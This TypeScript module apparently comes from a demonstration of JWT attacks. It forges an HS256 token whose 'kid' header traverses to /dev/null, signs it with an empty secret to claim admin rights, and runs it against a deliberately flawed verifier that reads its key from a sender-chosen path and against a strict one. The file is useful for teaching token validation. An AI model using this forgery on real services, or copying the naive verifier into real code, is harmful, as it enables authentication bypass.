import { createVerifier, exportJwk, generateKey } from '@mintmark/jose';
import { createLocalJwks } from '@mintmark/jose/jwks';
import { hmacSegment, segmentOf } from '../samples/encoding.ts';
import { parties, sampleKid } from '../samples/parties.ts';
import { answerOf, type Attack, type NaiveRun } from './attack.ts';
import { shown, takeApart } from './take-apart.ts';

/** Names a file that is empty on many systems. */
export const kidInjection: Attack = async (now) => {
  const secret = await generateKey('HS256', { kid: sampleKid });
  const iat = Math.floor(now / 1000);
  const claims = { iss: parties.issuer, aud: parties.api, sub: 'mallory', admin: true, iat, exp: iat + 300 };
  const header = segmentOf({ alg: 'HS256', typ: 'JWT', kid: '../../../../dev/null' });
  const input = `${header}.${segmentOf(claims)}`;
  const token = `${input}.${await hmacSegment('', input)}`;
  const strict = createVerifier({
    keys: createLocalJwks({ keys: [exportJwk(secret)] }),
    algorithms: ['HS256'],
    issuer: parties.issuer,
    audience: parties.api,
    now: () => now,
  });
  return {
    token,
    naive: await verifyNaively(token),
    strict: [await answerOf(async () => strict.verify(token))],
  };
};

/** Wrong on purpose: the sender names the file that the secret is read from. */
async function verifyNaively(token: string): Promise<NaiveRun> {
  const { header, claims, input, signature } = takeApart(token);
  const path = `/srv/keys/${String(header['kid'])}`;
  const secret = readFile(new URL(path, 'file:').pathname);
  const computed = await hmacSegment(secret, input);
  return {
    steps: [
      path,
      `${secret.length} bytes`,
      `${computed.slice(0, 12)}… = ${signature.slice(0, 12)}…`,
      shown(claims, 'admin'),
    ],
    accepted: computed === signature,
  };
}

/** A page has no files; this one is as empty as the real one, the others hold what the attacker does not know. */
function readFile(path: string): string {
  return path === '/dev/null' ? '' : crypto.randomUUID();
}
